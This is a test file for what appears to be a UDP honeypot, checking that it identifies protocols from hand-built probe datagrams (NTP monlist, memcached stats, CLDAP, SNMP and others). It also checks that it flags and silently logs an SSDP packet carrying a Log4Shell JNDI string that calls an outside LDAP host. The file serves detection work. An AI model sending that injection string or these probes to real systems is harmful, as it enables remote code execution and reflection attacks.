import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { test } from 'node:test'
import { serveDatagramDecoy, testPersona } from '../test-harness.ts'
import { listenerUdp } from './datagrams.ts'
import { recogniseDatagram } from './recognise-datagram.ts'

const hex = (text: string): Buffer => Buffer.from(text.replaceAll(' ', ''), 'hex')

/** What clients send first, made by hand from the specifications that the table names; the port is where they send it. */
const openings: [port: number, bytes: Buffer, protocol: string, request: RegExp][] = [
  [53, hex('1234 0100 0001 0000 0000 0000 07 76657273696f6e 04 62696e64 00 0010 0003'), 'dns', /^version\.bind\. type 16$/],
  [123, Buffer.concat([hex('e3'), Buffer.alloc(47)]), 'ntp', /^client$/],
  [123, hex('17 00 03 2a 00 00 00 00'), 'ntp', /^monlist$/],
  [1900, Buffer.from('M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\n\r\n'), 'ssdp', /^M-SEARCH/],
  [5060, Buffer.from('OPTIONS sip:100@10.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.2\r\n\r\n'), 'sip', /^OPTIONS sip:100/],
  [
    137,
    Buffer.concat([hex('80f0 0010 0001 0000 0000 0000 20'), Buffer.from('CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'), hex('00 0021 0001')]),
    'netbios-ns',
    /^\*<00> type 33$/,
  ],
  [5355, hex('0001 0000 0001 0000 0000 0000 04 77706164 00 0001 0001'), 'llmnr', /^wpad\. type 1$/],
  [5353, hex('0000 0000 0001 0000 0000 0000 05 5f68747470 04 5f746370 05 6c6f63616c 00 000c 0001'), 'mdns', /^_http\._tcp\.local\. type 12$/],
  [389, hex('3025 020101 6320 0400 0a0100 0a0100 020100 020100 010100 870b 6f626a656374436c617373 3000'), 'cldap', /^search$/],
  [47808, hex('810b000c 0120ffff00ff 1008'), 'bacnet', /^Who-Is$/],
  [3671, hex('0610 0201 000e 0801 c0a80102 0e57'), 'knx', /^search request$/],
  [44818, Buffer.concat([hex('6300 0000'), Buffer.alloc(20)]), 'enip', /^ListIdentity$/],
  [623, hex('0600ff07 00000000000000000009 2018c8 8100388e04b5'), 'ipmi', /capabilities/],
  [11211, hex('0001000000010000 73746174730d0a'), 'memcached', /^stats$/],
  [1194, hex('38 0102030405060708 00 00000000'), 'openvpn', /^client reset V2$/],
  [161, hex('3026 020101 0406 7075626c6963 a019 0204 00000001 020100 020100 300b 3009 06052b06010201 0500'), 'snmp', /^request$/],
  [9999, Buffer.from('hello\n'), 'unknown', /^hello$/],
  [9999, hex('00'), 'unknown', /^$/],
]

test('datagrams are named by their bytes and where they are sent', () => {
  for (const [port, bytes, protocol, request] of openings) {
    const found = recogniseDatagram(bytes, port)
    assert.equal(found.protocol, protocol, `${protocol} ${bytes.toString('hex')}`)
    assert.match(found.request, request)
  }
})

test('no part of a known datagram makes the recognisers fail', () => {
  for (const [port, bytes] of openings) for (let end = 0; end <= bytes.length; end++) recogniseDatagram(bytes.subarray(0, end), port)
})

test('a datagram is kept and said, and nothing is answered', async () => {
  const decoy = await serveDatagramDecoy(listenerUdp, testPersona('debian-12-dropbear'), {})
  const socket = createSocket('udp4')
  let answers = 0
  socket.on('message', () => {
    answers += 1
  })
  try {
    socket.send(Buffer.from('M-SEARCH * HTTP/1.1\r\nX: ${jndi:ldap://x/a}\r\n\r\n'), decoy.port, '127.0.0.1')
    await decoy.until(() => decoy.of('payload.received').length === 1)
    socket.send(Buffer.alloc(3000, 7), decoy.port, '127.0.0.1')
    await decoy.until(() => decoy.of('payload.received').length === 2)
    const [first, second] = decoy.of('payload.received')
    assert.deepEqual([first?.protocol, first?.marks], ['ssdp', ['log4shell']])
    assert.deepEqual([second?.size, second?.file?.size], [3000, 3000])
    assert.equal(answers, 0)
    assert.deepEqual(decoy.faults, [])
  } finally {
    socket.close()
    await decoy.close()
  }
})
